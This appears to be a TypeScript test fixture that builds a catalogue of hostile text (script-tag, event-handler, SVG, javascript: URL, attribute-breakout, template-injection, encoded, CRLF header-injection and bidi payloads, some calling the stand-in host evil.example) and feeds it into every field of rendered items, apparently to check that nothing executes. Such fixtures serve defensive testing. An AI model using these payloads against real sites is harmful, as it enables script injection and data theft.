/** What every payload tries to do; a page in which nothing ran has no such property. */
export const MARK = '__ran';
/** Where payloads would load something from or send something to. */
const FOREIGN_HOST = 'evil.example';

const RUN = `window.${MARK}=1`;
const CALL = `top.${MARK}=1`;
const FOREIGN = `//${FOREIGN_HOST}`;

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="${FOREIGN}/a.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<script\u0009>${RUN}</script\u000a>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<template><script>${RUN}</script></template>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}"//`,
  `<img/src="x"/onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<div onpointerover=${RUN} onmouseover=${RUN}>over me</div>`,
  `<p style="animation:x 1s" onanimationstart=${RUN}>`,
  `<a onblur=${RUN} onfocusin=${RUN} tabindex=1 autofocus>x</a>`,
  `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${RUN}>`,
  `<object data=x onerror=${RUN}></object>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
];

const SVG = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${CALL}</script>"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\u0009script:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://${FOREIGN_HOST}/%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="${FOREIGN}" ping="${FOREIGN}">x</a>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="${FOREIGN}/">`,
  `${FOREIGN}/a?b=c`,
  `\\\\${FOREIGN_HOST}\\share`,
  `blob:https://${FOREIGN_HOST}/x`,
];

const BREAKOUTS = [
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `\`><svg onload=${RUN}>`,
  `"/><script>${RUN}</script>`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `</option></select><img src=x onerror=${RUN}>`,
  `</svg></math><img src=x onerror=${RUN}>`,
  `x" style="background:url(${FOREIGN}/b)" y="`,
  `<style>@import"${FOREIGN}/c.css";*{background:url(${FOREIGN}/d)}</style>`,
  `<img src="${FOREIGN}/e.png" srcset="${FOREIGN}/f.png 2x">`,
  `<link rel=prefetch href="${FOREIGN}/g">`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `$t(common:close)`,
  `{{count}} {{name}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{%raw%}<script>${RUN}</script>`,
  `[[\${T(java.lang.Runtime).getRuntime()}]]`,
  `=HYPERLINK("http:${FOREIGN}","x")`,
];

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `&amp;quot;&gt;&nbsp;&copy`,
];

const NAMES = [
  '__proto__',
  'constructor',
  'toString',
  '<form id=app><input name=attributes><input name=children></form>',
  '<img name=getElementById><img name=cookie>',
  '<a id=defaultView></a><a id=location href=//x></a>',
];

const UNSEEN = [
  `\u202egnp.exe\u202c <img src=x onerror=${RUN}>`,
  `\u2066\u2067שלום مرحبا\u2069 <svg onload=${RUN}>`,
  'مرحبا بالعالم هذا اسم طويل يكتب من اليمين إلى اليسار',
  `a\u0000b<script\u0000>${RUN}</script>`,
  `\u001b[31mred\u001b]8;;http:${FOREIGN}\u0007x <img src=x onerror=${RUN}>`,
  `line\r\nSet-Cookie: a=b\r\n\r\n<script>${RUN}</script>`,
  `\ufeff\u200b\u2060<script>${RUN}</script>`,
  `Z\u0351\u0300\u0341\u033e\u035b\u0346`.repeat(12),
  '👩‍👩‍👧‍👦'.repeat(12),
];

/** As long as the longest field takes, without a place to break a line at. */
const LONG = [
  `${'A'.repeat(10_000)}<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>${'<b>'.repeat(3_400)}`,
  '\u202e\u0627'.repeat(5_000),
];

/** Texts that attackers write where a page might show them; every one different. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...SVG,
  ...ADDRESSES,
  ...BREAKOUTS,
  ...TEMPLATES,
  ...ENTITIES,
  ...NAMES,
  ...UNSEEN,
  ...LONG,
];

/** The text that belongs to a field of the numbered thing: over all things, every field gets every text. */
export function textFor(field: number, thing: number, most = Number.POSITIVE_INFINITY): string {
  const text = HOSTILE_TEXTS[(thing + field * 13) % HOSTILE_TEXTS.length] ?? '';
  return text.slice(0, most);
}
